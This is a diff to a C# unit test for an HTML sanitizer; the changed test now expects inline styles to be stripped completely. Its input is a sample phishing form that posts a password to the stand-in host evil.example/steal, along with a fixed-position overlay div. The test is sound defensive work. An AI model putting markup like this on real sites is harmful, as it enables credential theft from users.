@@ -16,7 +16,7 @@ public sealed class HtmlCleanerTests
     }
 
     [Fact]
-    public void Clean_RemovesFormsAndPageCoveringStyles()
+    public void Clean_RemovesFormsAndInlineStyles()
     {
         var clean = _cleaner.Clean(
             """<form action="https://evil.example/steal"><input type="password" name="p"><button>Log in</button></form><div style="position:fixed;top:0;color:red">Overlay</div>""",
@@ -25,9 +25,8 @@ public sealed class HtmlCleanerTests
         Assert.DoesNotContain("<form", clean, StringComparison.Ordinal);
         Assert.DoesNotContain("<input", clean, StringComparison.Ordinal);
         Assert.DoesNotContain("<button", clean, StringComparison.Ordinal);
-        Assert.DoesNotContain("position", clean, StringComparison.Ordinal);
-        Assert.Contains("color:", clean, StringComparison.Ordinal);
-        Assert.Contains("Overlay", clean, StringComparison.Ordinal);
+        Assert.DoesNotContain("style", clean, StringComparison.Ordinal);
+        Assert.Contains("<div>Overlay</div>", clean, StringComparison.Ordinal);
     }
 
     [Fact]
